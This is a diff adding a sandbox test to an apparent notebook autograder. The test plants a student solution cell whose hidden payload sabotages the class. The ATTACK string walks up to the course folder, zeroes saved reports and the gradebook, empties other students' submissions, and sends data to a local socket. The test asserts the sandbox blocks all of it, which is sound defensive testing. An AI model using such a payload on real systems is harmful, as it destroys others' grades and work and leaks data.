@@ -6,7 +6,10 @@ setting allowing it, and a report graded with that setting says so.
 Each probe is a solution cell that does its forbidden thing and is correct only if that failed:
 its verdict is `passed` exactly when the sandbox held (run unsandboxed, every probe fails).
 """
+import csv
+import json
 import os
+import shutil
 import socket
 import sys
 import threading
@@ -114,3 +117,81 @@ def test_an_unsandboxed_grade_says_so(tmp_path, monkeypatch):
     proc = run_cli("grade", A, notebook, "--json")
     assert proc.returncode == 0, proc.stderr
     assert sandbox.UNSANDBOXED_NOTE in proc.stdout
+
+
+# A solution cell that walks up from its working folder to the course and attacks it: zeroes
+# every saved report and the gradebook, empties every submitted notebook, phones home.
+ATTACK = """
+import glob, os, socket, sqlite3
+course = os.getcwd()
+for _ in range(8):
+    if os.path.isdir(os.path.join(course, "grading")):
+        break
+    course = os.path.dirname(course)
+for path in glob.glob(os.path.join(course, "grading", "reports", "*", "*.json")):
+    try:
+        open(path, "w").write('{"score": 0}')
+    except OSError:
+        pass
+try:
+    db = sqlite3.connect(os.path.join(course, "grading", "gradebook.db"))
+    db.execute("update grade set manual_score = 0")
+    db.commit()
+except Exception:
+    pass
+for path in glob.glob(os.path.join(course, "grading", "submitted", "*", "*", "*.ipynb")):
+    try:
+        open(path, "w").write("{}")
+    except OSError:
+        pass
+try:
+    socket.create_connection(("127.0.0.1", PORT), timeout=3).sendall(b"the course's secrets")
+except OSError:
+    pass
+"""
+
+
+@needs_sandbox
+def test_a_student_kernel_cannot_touch_the_class(tmp_path):
+    """A class of two, graded one after the other: alice (correct) first, then zed, whose
+    kernel attacks everything alice has. alice keeps full marks everywhere (printed, saved
+    report, gradebook export, feedback page), her submission is unchanged, and no connection
+    leaves the sandbox."""
+    server = socket.socket()
+    server.bind(("127.0.0.1", 0))
+    server.listen()
+    server.settimeout(1)
+    root = tmp_path / "course"
+    shutil.copytree(course.source_notebook_path(A).parent, root / "notebooks" / A)
+    solutions = reference_solutions(A)
+    attack = ATTACK.replace("PORT", str(server.getsockname()[1]))
+    for student, implementations in (("alice", solutions),
+                                     ("zed", {**solutions, ZEROS: attack + solutions[ZEROS]})):
+        folder = root / "grading" / "submitted" / student / A
+        folder.mkdir(parents=True)
+        nbformat.write(make_submission(release_notebook(A), A, implementations),
+                       str(folder / f"{A}.ipynb"))
+    alice_submission = (root / "grading" / "submitted" / "alice" / A / f"{A}.ipynb").read_bytes()
+    try:
+        graded = run_cli("grade-all", "--course", root, "--workers", 1, "--json")
+        feedback = run_cli("feedback", "--course", root)
+        try:
+            connection = server.accept()
+        except OSError:
+            connection = None
+    finally:
+        server.close()
+    assert graded.returncode == 0 and feedback.returncode == 0, graded.stderr + feedback.stderr
+    printed = {r["student"]: r for r in map(json.loads, graded.stdout.splitlines())}
+    assert printed["alice"]["score"] == printed["alice"]["max_score"] > 0, printed["alice"]
+    saved = json.loads((root / "grading" / "reports" / A / "alice.json").read_text())
+    assert saved["score"] == saved["max_score"] == printed["alice"]["max_score"], saved
+    with open(root / "grading" / "grades.csv", newline="") as f:
+        rows = {r["student_id"]: float(r["score"]) for r in csv.DictReader(f)}
+    assert rows["alice"] == saved["max_score"], rows
+    page = (root / "grading" / "feedback" / "alice" / A / f"{A}.html").read_text(encoding="utf-8")
+    assert f"{saved['max_score']:g} / {saved['max_score']:g} points" in page
+    assert (root / "grading" / "submitted" / "alice" / A / f"{A}.ipynb").read_bytes() == alice_submission
+    assert connection is None, "a connection from the kernel reached the test's server"
+    zed = json.loads((root / "grading" / "reports" / A / "zed.json").read_text())
+    assert zed["score"] == zed["max_score"], "zed's attack failed quietly; his own code is correct"
